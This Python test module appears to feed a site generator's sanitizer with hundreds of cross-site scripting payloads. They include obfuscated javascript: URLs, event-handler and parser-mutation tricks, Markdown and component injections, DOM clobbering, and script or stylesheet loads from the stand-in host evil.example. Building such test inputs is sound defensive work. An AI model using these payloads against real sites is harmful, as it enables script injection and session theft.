"""What authors who are not trusted may try: bodies by kind, and front matter.

Whatever would run says `alert(1)`; whatever would be loaded is of
`evil.example`; nothing names `stolen.example` as a host, so no URL may lead there.
"""

from __future__ import annotations

import json
from collections.abc import Iterator

RUN = "alert(1)"


def _each(template: str, values: list[str]) -> list[str]:
    return [template.replace("@", value) for value in values]


_JAVASCRIPT = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#10;script:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "&#1;javascript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "javascript%3Aalert(1)", "javascript%253Aalert(1)",
    "%6Aavascript:alert(1)", "%6A%61%76%61%73%63%72%69%70%74:alert(1)", "%256Aavascript:alert(1)",
    "java%0Ascript:alert(1)", "java%09script%3Aalert(1)", "javascript:%61lert(1)", "javascript://%0Aalert(1)",
    "javascript:/*x*/alert(1)//.md", "javascript%3Aalert(1)//x.md", "vbscript:alert(1)", "VBScript%3Aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data%3Atext/html,alert(1)", "view-source:javascript:alert(1)", "blob:https://x/alert(1)",
    "feed:javascript:alert(1)",
    "endpoint:x?_scheme=javascript", "endpoint:home?_external=1&_scheme=javascript&_anchor=%0Aalert(1)",
    "&amp;#106;avascript:alert(1)", "\u200bjavascript:alert(1)", "java\u00adscript:alert(1)",
    "./javascript:alert(1)", "?javascript:alert(1)", "#javascript:alert(1)"]
_HOSTS = [
    "/%2Fstolen.example/", "%2F%2Fstolen.example/", "%2f/stolen.example/x", "/%5Cstolen.example/",
    "%5C%5Cstolen.example",
    "/\\stolen.example/", "\\\\stolen.example/x", "\\/stolen.example/x.md", "/&#47;stolen.example".replace("&#47;",
    "%2F"),
    "/&#9;/stolen.example", "/&Tab;/stolen.example/x.md", "/%09/stolen.example", "/%0A/stolen.example/x.md",
    "/&#92;stolen.example/x.md", "..//stolen.example/", "..%2F%2Fstolen.example/", "../..//stolen.example/x",
    "/.%2F/stolen.example", "/./%2Fstolen.example", "/x/..%2F%2Fstolen.example", "%252F%252Fstolen.example/"]

_TAGS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)", "</script><script>alert(1)</script>", "<script type=module>alert(1)</script>",
    "<script><!-- <script></script> -->alert(1)</script>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<iframe src=//evil.example></iframe>",
    "<object data=javascript:alert(1)></object>", "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>", "<embed src=//evil.example/x.swf>", "<applet code=x></applet>",
    "<base href=//evil.example/>\n\n[x](y.md)", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>", "<div style='background:url(//evil.example/x)'>x</div>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<td style='text-align: left; background:url(//evil.example/)'>x</td>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<button onclick=alert(1)>x</button>", "<input autofocus onfocus=alert(1)>",
    "<input type=image src=//evil.example/x onerror=alert(1)>",
    "<input type=submit formaction=javascript:alert(1)>", "<input type=password name=p>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>", "<keygen autofocus onfocus=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<dialog open onclose=alert(1)>x</dialog>", "<marquee onstart=alert(1)>x</marquee>", "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<portal src=//evil.example></portal>",
    "<fencedframe src=//evil.example></fencedframe>", "<slot onslotchange=alert(1)>x</slot>",
    "<x-tag onclick=alert(1) tabindex=0>x</x-tag>",
    "<canvas onclick=alert(1)>x</canvas>", "<noscript><img src=x.png onerror=alert(1)></noscript>",
    "<plaintext><img src=x.png onerror=alert(1)>",
    "<listing><img src=x.png onerror=alert(1)></listing>", "<xmp><img src=x.png onerror=alert(1)></xmp>",
    "<title><img src=x.png onerror=alert(1)></title>", "<foo:script>alert(1)</foo:script>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '//evil.example/'>]>&y;", "<![CDATA[<script>alert(1)</script>]]>",
    "<%<script>alert(1)</script>%>"]

_HANDLERS = _each("<@>x", [
    "img src=x.png onerror=alert(1)", "img/src=x.png/onerror=alert(1)", "img src=x.png\nonerror\n=\nalert(1)",
    "img src='x.png'onerror=alert(1)", 'img src="x.png"onerror="alert(1)"', "IMG SRC=x.png ONERROR=alert(1)",
    "img src=x.png onerror=alert`1`", "img src=x.png onerror=&#97;lert(1)", "img src=x.png onerror=\"alert(1)",
    "img src=x.png onload=alert(1)", "img src onerror=alert(1) src=x.png", "img src=x.png title='>' onerror=alert(1)",
    "img src=x.png alt=\"`'\" onerror=alert(1)", "img src=x.png alt=`onerror=alert(1)`",
    "img src=x.png \x0conerror=alert(1)",
    "a href=# onclick=alert(1)", "a href=# onmouseover=alert(1)", "a href=# onfocus=alert(1) autofocus",
    "b onclick=alert(1)",
    "p onpointerover=alert(1)", "div onmouseenter=alert(1)", "div tabindex=0 autofocus onfocus=alert(1)",
    "details open ontoggle=alert(1)",
    "div onanimationstart=alert(1) style='animation:x'", "video src=x onerror=alert(1)",
    "video><source onerror=alert(1)",
    "audio src=x onerror=alert(1)", "video poster=x onloadstart=alert(1) src=x", "td onclick=alert(1)",
    "table onclick=alert(1)",
    "math onclick=alert(1)", "ol onclick=alert(1)", "abbr onclick=alert(1)", "kbd onclick=alert(1)",
    "h2 onclick=alert(1)",
    "blockquote onclick=alert(1)", "summary onclick=alert(1)", "label onclick=alert(1)", "br onclick=alert(1)",
    "hr onclick=alert(1)"])

_URLS = [*_each("[x](<@>)", _JAVASCRIPT), *_each('<a href="@">x</a>', _JAVASCRIPT)]
_MORE_URLS = [
    *_each("[x]: <@>\n\n[x] and [y][x]", _JAVASCRIPT[:20]), *_each("<@>", [
        "javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,alert(1)", "vbscript:alert(1)", "x-y:alert(1)",
        "javascript&colon;alert(1)", "https://example.com/\"onclick=alert(1)//",
        "mailto:x@example.com\"onclick=alert(1)"]),
    *_each("![x](<@>)", [*_JAVASCRIPT[:6], "data:image/svg+xml,<svg onload=alert(1)>", "x.png\" onerror=\"alert(1)",
                         "x.png&quot; onerror=&quot;alert(1)", "x%22onerror=alert(1)%22.png"]),
    "<a href=javascript:alert(1)>x", "<a href='javascript:alert(1)'", "<a href\n=\njavascript:alert(1)\n>x</a>",
    "<a href=x href=javascript:alert(1)>x</a>", "<a HREF=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<area href=javascript:alert(1)>", "<map name=m><area href=javascript:alert(1)></map>",
    "<q cite=javascript:alert(1)>x</q>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>", "<video poster=javascript:alert(1)></video>",
    "<img srcset='javascript:alert(1) 1x, x.png 2x'>", "<img srcset='x.png 1x,data:text/html,x 2x'>",
    "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>", "<picture><source srcset='javascript:alert(1)'><img src=x.png></picture>",
    "<a ping=//evil.example/ href=x>x</a>", "<a href=x target=_top>x</a>", "<a href=x download=x>x</a>",
    "<ins cite=javascript:alert(1)>x</ins>", "www.example.com/\"onclick=alert(1)",
    "https://example.com/<img src=x.png onerror=alert(1)>",
    "[x](javascript:alert(1) \"t\")", "[x](  javascript:alert(1))", "[x](<java\\script:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[a](x \"t\" onclick=alert(1))", "[a](x 't\" onclick=\"alert(1)')", "[a\" onclick=alert(1)](x)",
    "![a\" onerror=\"alert(1)](x.png)",
    "![a](x.png \"t\" onerror=\"alert(1)\")", "![a](x.png 't\" onerror=\"alert(1)')",
    "[![x](x.png)](javascript:alert(1))",
    "[x]: javascript:alert(1) \"a\\\" onclick=alert(1)\"\n\n[x]", "[x](&#x6a&#x61vascript:alert(1))"]
_HOST_TRICKS = [*_each("[x](<@>)", _HOSTS), *_each('<img src="@">', _HOSTS[:8]), *_each('<a href="@">x</a>', _HOSTS)]

_FOREIGN = [
    "<svg onload=alert(1)></svg>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style>*{x:y}</style><img src=x.png onerror=alert(1)></svg>",
    "<svg><image href=x.png onerror=alert(1)></svg>", "<svg><desc><img src=x.png onerror=alert(1)></desc></svg>",
    "<svg><title><img src=x.png onerror=alert(1)></title></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<math href=javascript:alert(1)>x</math>",
    "<math><mi href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><img src=x.png onerror=alert(1)></mtext></math>",
    "<math><semantics><annotation><img src=x.png onerror=alert(1)></annotation></semantics></math>"]
_MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x.png onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x.png onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=x.png onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x.png onerror=alert(1)>\">",
    "<p title=\"</noscript><img src=x.png onerror=alert(1)>\">x</p>",
    "<textarea><p title=\"</textarea><img src=x.png onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x.png onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x.png onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x.png onerror=alert(1)>\"></iframe>",
    "<noembed><p title=\"</noembed><img src=x.png onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x.png onerror=alert(1)>\">",
    "<template><p title=\"</template><img src=x.png onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><style></select><img src=x.png onerror=alert(1)></style>",
    "<option><style></option></select><img src=x.png onerror=alert(1)></style>",
    "<svg><![CDATA[><img src=x.png onerror=alert(1)>]]></svg>",
    "<math><![CDATA[<img src=x.png onerror=alert(1)>]]></math>",
    "<!--><img src=x.png onerror=alert(1)>-->", "<!---><img src=x.png onerror=alert(1)>-->",
    "<!-- x --!><img src=x.png onerror=alert(1)>-->",
    "<!-- <!-- --><img src=x.png onerror=alert(1)>-->", "<!--<img src=\"--><img src=x.png onerror=alert(1)//\">",
    "<!-- x", "<![if x]><img src=x.png onerror=alert(1)><![endif]>",
    "<!--coldpress:component 1--><img src=x.png onerror=alert(1)><!--coldpress:end-->",
    "<!--coldpress:title--><!--coldpress:body-->",
    "::details[x]\n\n<!--coldpress:component 1--><!--coldpress:component 1--><!--coldpress:component 1-->",
    "<coldpress-slot number=\"0\"></coldpress-slot>",
    "<p title='<coldpress-slot number=\"0\"></coldpress-slot>'>x</p>\n\n::embed[x]{href=/}",
    "<b a=\"<i b='\"><img src=x.png onerror=alert(1)>'>", "<a <img src=x.png onerror=alert(1)>",
    "<img src=\"x.png\" <b onerror=alert(1)>",
    "<b a\"b onclick=alert(1)>x</b>", "<img \"src=x.png' onerror=alert(1) alt=\"'>",
    "<a b='c\"d href=javascript:alert(1)>x</a>",
    "<a title=\"a\n\nb\" onclick=alert(1)>x</a>", "<a title='\"><img src=x.png onerror=alert(1)>'>x</a>",
    "<p title=\"&quot; onclick=&quot;alert(1)\">x</p>",
    "<p title=\"&lt;img src=x.png onerror=alert(1)&gt;\">x</p>", "&lt;img src=x.png onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<table><td><a title=\"</td></table><img src=x.png onerror=alert(1)>\">x",
    "<table><caption><svg><desc><table><caption></caption></table></desc></svg><img src=x.png onerror=alert(1)>",
    "<a><table><a href=javascript:alert(1)>x", "<b><p><b><p></b><img src=x.png onerror=alert(1)></b>",
    "</div></article></main><script>alert(1)</script>",
    "</p></div></main></body></html><img src=x.png onerror=alert(1)>", "<img src=x.png onerror=alert(1)//",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=x.png\0 onerror=alert(1)>", "<scr\0ipt>alert(1)</scr\0ipt>",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<\uff1cscript>alert(1)</script>"]

_SUMMARIES = [
    "<img alt=\"a id='\" src=\"x.png\"> `'` <b title=\" onerror=alert(1) src=z \">t</b>",
    "<b title=\" id='\" lang=x>a</b> ' <i title=\" onclick=alert(1) \">b</i>",
    "<b title=' name=\"' lang=x>a</b> \" <i title=' onclick=alert(1) '>b</i>",
    "<b title=\"<!--more-->\" onclick=alert(1)>x</b>",
    "<b title=\"x <!-- more --> y\">t</b> <i onclick=alert(1)>",
    "Text <b title=\"\n\n<!--more-->\n\n\" onclick=alert(1)>x</b>",
    "<div title=\"\n<!-- more -->\n\"><img src=x.png onerror=alert(1)></div>",
    "One <a href=\"x\n\n<!--more-->\n\njavascript:alert(1)\">x</a>", "<!--more--><script>alert(1)</script>",
    "<p title=\"a\">One</p><!--more--><p title=\"</p><img src=x.png onerror=alert(1)>\">x</p>",
    "A[^1] <b title=\"<sup id='fnref\">x</b>'>y</sup> <i title=\" onclick=alert(1) \">z</i>\n\n[^1]: N",
    "<div class=\"footnote\" title='x'>y</div> <b onclick=alert(1)>z</b>",
    "`<p>` <b title=\"</p><p onclick=alert(1)>\">x</b>", "<p id='a' title=\" id=\" onclick=alert(1) x='\">t</p>",
    "<b id=\"a\"title=\"'\"id='\"onclick=alert(1) '>x</b>"]

_MARKDOWN = [
    "# T {onclick=alert(1)}", "## H {#x onclick=alert(1)}", "## H { onclick=\"alert(1)\" .x }",
    "Text {: onclick=alert(1) }", "Text\n{: onmouseover='alert(1)' style='x' }",
    "[x](y){onclick=alert(1)}", "[x](y){href=javascript:alert(1)}", "![x](x.png){onerror=alert(1)}",
    "![x](x.png){: onload=\"alert(1)\" srcset=\"javascript:alert(1)\" }",
    "**x**{onclick=alert(1)}", "`x`{onclick=alert(1)}", "| a {onclick=alert(1)} |\n|---|\n| <b onclick=alert(1)>b |",
    "# <img src=x.png onerror=alert(1)>", "## <script>alert(1)</script> x",
    "## `<script>alert(1)</script>`", "## [x](javascript:alert(1))",
    "# T\n\n## \"><img src=x.png onerror=alert(1)>\n\n## B\n\n## C",
    "> [!NOTE] <img src=x.png onerror=alert(1)>\n> x", "> [!NOTE]- [x](javascript:alert(1))\n> x",
    "!!! note \"<img src=x.png onerror=alert(1)>\"\n    x", "!!! \"onclick=alert(1)\" \"x\"\n    x",
    "??? note \"a\" onclick=alert(1)\n    x", "/// note | <img src=x.png onerror=alert(1)>\nx\n///",
    ":::note[<img src=x.png onerror=alert(1)>]{onclick=alert(1)}\nx\n:::",
    ":::warning{class=\"x\\\" onclick=alert(1)\"}\nx\n:::",
    "=== \"<img src=x.png onerror=alert(1)>\"\n    x\n=== \"[x](javascript:alert(1))\"\n    y",
    "::::tabs\n:::tab[<b onclick=alert(1)>x</b>]{selected onclick=alert(1)}\nx\n:::\n::::",
    ":::details[<img src=x.png onerror=alert(1)>]{open class=\"a\\\" onclick=alert(1)\"}\nx\n:::",
    ":::details[x]{id='x\" onclick=\"alert(1)'}\nx\n:::",
    "x[^1]\n\n[^1]: <img src=x.png onerror=alert(1)> [x](javascript:alert(1))",
    "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: y", "x[^<b>]\n\n[^<b>]: <script>alert(1)</script>",
    "[[javascript:alert(1)]]", "[[x|<img src=x.png onerror=alert(1)>]]", "[[Home#\" onclick=\"alert(1)|x]]",
    "[[<script>alert(1)</script>]]", "[[//stolen.example/]]",
    "```js\" onclick=\"alert(1)\nx\n```", "```\"><img/src=x.png/onerror=alert(1)>\nx\n```",
    "```py title=\"<img src=x.png onerror=alert(1)>\"\nx\n```", "```py title='\" onclick=\"alert(1)'\nx\n```",
    "```{.py onclick=alert(1) #x}\nx\n```", "```py {1} linenums=\"1\\\" onclick=alert(1)\"\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```", "```\n<!--more--><img src=x.png onerror=alert(1)>\n```",
    "    <script>alert(1)</script>", "~~~<script>\nalert(1)\n~~~", "``<img src=x.png onerror=alert(1)>``",
    "`#!html <img src=x.png onerror=alert(1)>`",
    "$<img src=x.png onerror=alert(1)>$", "$\\href{javascript:alert(1)}{x}$",
    "$$\n\\text{<img src=x.png onerror=alert(1)>}\n$$", "$\\unicode{<script>alert(1)</script>}$",
    "$\\url{javascript:alert(1)}$",
    "$\\class{x\" onclick=\"alert(1)}{y}$", "$\\style{background:url(//evil.example)}{y}$",
    "$\\includegraphics{//evil.example/x}$", "$x</math><img src=x.png onerror=alert(1)>$",
    "```mermaid\ngraph TD\nA[<img src=x.png onerror=alert(1)>]\n```",
    "```mermaid\ngraph TD\nA-->B\nclick A href \"javascript:alert(1)\"\n```",
    "```mermaid\ngraph TD\nA[\"<script>alert(1)</script>\"]\nstyle A fill:url(//evil.example)\n```",
    "*[HTML]: \" onclick=\"alert(1)\n\nHTML", "*[A]: <img src=x.png onerror=alert(1)>\n\nA",
    ":smile\" onclick=alert(1):", ":material-<img src=x.png onerror=alert(1)>:",
    ":material-check:{ onclick=alert(1) title='\" onclick=\"alert(1)' }",
    ":fontawesome-brands-../../x:", "++ctrl+\"<img src=x.png onerror=alert(1)>\"++",
    "{++<img src=x.png onerror=alert(1)>++}", "{>><script>alert(1)</script><<}", "==<b onclick=alert(1)>x==",
    "Term\n: <img src=x.png onerror=alert(1)>", "- [x] <input type=image src=x onerror=alert(1)>",
    "- [ ] [x](javascript:alert(1))",
    "<div markdown=1 onclick=alert(1)>\n\n*x* <img src=x.png onerror=alert(1)>\n\n</div>",
    "<figure markdown=span onclick=alert(1)>\n![x](x.png){onerror=alert(1)}\n</figure>",
    "[TOC]\n\n## <a href=javascript:alert(1)>x</a>\n\n## b", "\\<script>alert(1)\\</script>",
    "<b\\ onclick=alert(1)>x</b>",
    "\u202e<img src=x.png onerror=alert(1)>\u202c", "[\u202etxt.exe](javascript:alert(1))",
    "\u2066<b onclick=alert(1)>\u2069"]

_COMPONENTS = [
    *_each("::embed[x]{href=\"@\"}", ["javascript:alert(1)", " javascript:alert(1)", "java&#10;script:alert(1)",
    "javascript%3Aalert(1)", "&#106;avascript:alert(1)",
                                     "javascript&colon;alert(1)", "data:text/html,<script>alert(1)</script>",
                                     "vbscript:alert(1)", "/%2Fstolen.example/", "/\\\\stolen.example/x.md"]),
    *_each("::embed[x]{url=\"@\"}", ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript%3Aalert(1)",
    "%6Aavascript:alert(1)"]),
    *_each("::figure[x]{src=\"x.png\" @}", [
        "onerror=alert(1)", "alt='\\\" onerror=alert(1) x=\\\"'", "alt='\" onerror=\"alert(1)'",
        "class='x\" onclick=\"alert(1)'", "id='x\" onclick=\"alert(1)'", "width='1\" onerror=\"alert(1)'",
        "style='background:url(//evil.example)'", "srcset='javascript:alert(1) 1x'",
        "caption='<img src=x.png onerror=alert(1)>'"]),
    "::figure[x]{src=javascript:alert(1)}", "::figure[x]{src='data:text/html,<script>alert(1)</script>'}",
    "::figure[<script>alert(1)</script>]{src=x.png}",
    "::figure[x]{src=\"x.png%22%20onerror=alert(1)\"}", ":::figure[x]\n<img src=x.png onerror=alert(1)>\n:::",
    ":::gallery[<b onclick=alert(1)>x</b>]{id='x\" onclick=\"alert(1)'}\n![x](javascript:alert(1))\n:::",
    ":::gallery\n<script>alert(1)</script>\n:::", "::include{file=evil.txt}",
    "::include{file=evil.txt title='\"><img src=x.png onerror=alert(1)>'}",
    "::include{file=evil.txt lang='\" onclick=\"alert(1)'}",
    "::include{file=\"<img src=x.png onerror=alert(1)>\"}", "::include{file=../included.md}", "--8<-- \"evil.txt\"",
    "--8<-- \"posts/evil.txt\"",
    ":::unknown[<b onclick=alert(1)>x]{onclick=alert(1)}\n<img src=x.png onerror=alert(1)>\n:::",
    "::unknown[<script>alert(1)</script>]{x=\"<img src=x.png onerror=alert(1)>\"}",
    ":icon[x]{name=\"../../x\" class='a\" onclick=\"alert(1)' text='<img src=x.png onerror=alert(1)>'}",
    ":embed[x]{href=javascript:alert(1)}", ":details[x]{open onclick=alert(1)}",
    ":::details[a]\n</details><script>alert(1)</script>\n:::",
    ":::details[</summary><img src=x.png onerror=alert(1)>]\nx\n:::",
    "<a href=javascript:alert(1)>\n\n:::details[a]\nx</a>\n:::",
    "<p title=\"\n\n::embed[x]{href=javascript:alert(1)}\n\n\" onclick=alert(1)>x</p>",
    "{% raw %}<script>alert(1)</script>{% endraw %}", "{{ '<script>alert(1)</script>' }}"]

_CLOBBERING = [*_each("<a id=@>x</a><img name=@ alt=x><p id=@>y</p>\n\n## H {#@}\n\n[^@]\n\n[^@]: n", [
    "location", "document", "body", "cookie", "forms", "getElementById", "querySelector", "_main", "_switch",
    "_contents", "_sidebar", "__proto__", "constructor",
    "toString", "dialog", "alert", "head", "documentElement", "createElement", "addEventListener"]),
    "<form id=location><input name=href></form>", "<img name=body><img name=getElementById>",
    "<a id=x><a id=x name=y href=javascript:alert(1)>", "<p data-search=//evil.example/x>x</p>",
    "<a data-search href=x>x</a>", "<script data-search=//evil.example></script>",
    "<search data-index=//evil.example/>x</search>", "<p class='sheet toc masthead prose code'>x</p>",
    "<div class=code><code>x</code></div>",
    "<div class=tabbed-set><div class=tabbed-labels><label for=_switch>x</label></div></div>",
    "<p popover id=p>x</p><button popovertarget=p>x</button>", "<p is=x-y contenteditable onfocus=alert(1)>x</p>",
    "<p accesskey=x onclick=alert(1)>x</p>"]

_EMBEDS = [
    "![[x.png|<img src=x.png onerror=alert(1)>]]", "![[x.png|\" onerror=\"alert(1)|100]]", "![[evil.txt]]",
    "![[x.pdf]]",
    "![[included]]", "![[included#x]]", "text ![[included|<b onclick=alert(1)>]]", "![[javascript:alert(1)]]",
    "![[<script>alert(1)</script>]]", "![[//stolen.example/x.png]]", "%%<script>alert(1)</script>%%",
    "%% <!-- %% <b onclick=alert(1)> -->",
    "<b title=\"%%\" onclick=alert(1) x=\"%%\">x</b>", "<b title=\"%% a %%\" id='%%' onclick=alert(1)>x</b>",
    "x ^a\"onclick=alert(1)"]

_BLOCKS = [
    "/// html | script\nalert(1)\n///", "/// html | img[onerror=alert(1) src=x.png]\n///",
    "/// html | iframe[srcdoc='<script>alert(1)</script>']\nx\n///", "/// html | svg\n<script>alert(1)</script>\n///",
    "/// html | div\n    attrs: {onclick: alert(1), style: 'x', class: 'masthead bar'}\n\nx\n///",
    "/// details | <img src=x.png onerror=alert(1)>\n    attrs: {id: '\" onclick=\"alert(1)'}\n\nx\n///",
    "/// tab | <img src=x.png onerror=alert(1)>\nx\n///", "/// caption\n<img src=x.png onerror=alert(1)>\n///",
    "/// define\n<img src=x.png onerror=alert(1)>\n\n- <b onclick=alert(1)>x</b>\n///",
    "$\\cssId{_main}{x}$ $\\htmlData{onclick=alert(1)}{z}$ $\\htmlStyle{position:fixed}{z}$",
    "```py title=\"&quot; onclick=alert(1)&quot;<script>\" hl_lines=\"1\\\" onclick=x\"\nx # (1)!\n```\n\n"
    "1. <img src=x.png onerror=alert(1)>",
    "```py {: #x\" onclick=\"alert(1) .y\" onclick=\"alert(1) }\nx\n```",
    "{~~<b onclick=alert(1)>~><script>alert(1)</script>~~}{==x==}{>>\" onclick=\"alert(1)<<}",
    "> [!\"onclick=alert(1)] x\n> y", "> [!faq\\\" onclick=x]+ <script>alert(1)</script>\n> y",
    "| a |\n|:-\" onclick=alert(1)|\n| <img src=x.png onerror=alert(1)> |", "- [x\" onclick=alert(1)] y",
    "text ^\"onclick=alert(1)\n\ntext ^x<img>", "![[x.png|100\" onerror=\"alert(1)]]",
    "<p class='bar skip sheet search-dialog'>x</p><p id=theme>x</p><p id=search>x</p><p id=tabs-1-1>y</p>",
    "${7*7} <?php alert(1) ?> <!--#exec cmd=alert(1) --> <% alert(1) %> <esi:include src=//evil.example/>"]

BODIES: dict[str, list[str]] = {
    "raw tags": _TAGS, "handlers": _HANDLERS, "URLs": _URLS, "links and images": _MORE_URLS, "hosts": _HOST_TRICKS,
    "SVG and MathML": _FOREIGN, "mutations": _MUTATIONS,
    "summaries": _SUMMARIES, "Markdown": _MARKDOWN, "components": _COMPONENTS, "Obsidian": _EMBEDS, "blocks": _BLOCKS,
    "clobbering": _CLOBBERING}

_WORDS = [
    "<script>alert(1)</script>", "<img src=x.png onerror=alert(1)>", "\"><img src=x.png onerror=alert(1)>",
    "' onclick='alert(1)", "\" onclick=\"alert(1)", "</title><script>alert(1)</script>",
    "[x](javascript:alert(1))", "</script><script>alert(1)</script>", "\u202e<b onclick=alert(1)>"]
_LINKS = ["javascript:alert(1)", " javascript:alert(1)", "javascript%3Aalert(1)",
    "data:text/html,<script>alert(1)</script>", "/%2Fstolen.example/x.png", "x.png\" onerror=\"alert(1)",
    "/\\stolen.example/x.md"]


def front_matters() -> Iterator[str]:
    """Each a front matter without its fences."""
    for key in ("title", "description", "summary", "tags", "authors", "lang"):
        for words in _WORDS if key not in ("tags", "authors") else _WORDS[:4]:  # each is a page of its own
            yield f"{key}: {json.dumps(words)}"
    for key in ("image", "canonical", "guid", "author_url"):
        for link in _LINKS:
            yield f"{key}: {json.dumps(link)}"
    for words in _WORDS[1:5]:
        said = json.dumps(words)
        yield f"series: {said}\ncategories: [{said}]\nimage: x.png\nimage_alt: {said}"
        yield (f"params: {{hide: [{said}], image_alt: {said}}}\nimage: x.png\n"
               f"author: {{name: {said}, url: 'javascript:alert(1)'}}")


def bodies() -> Iterator[tuple[str, str]]:
    """Each with its kind."""
    for kind, written in BODIES.items():
        for body in dict.fromkeys(written):
            yield kind, body
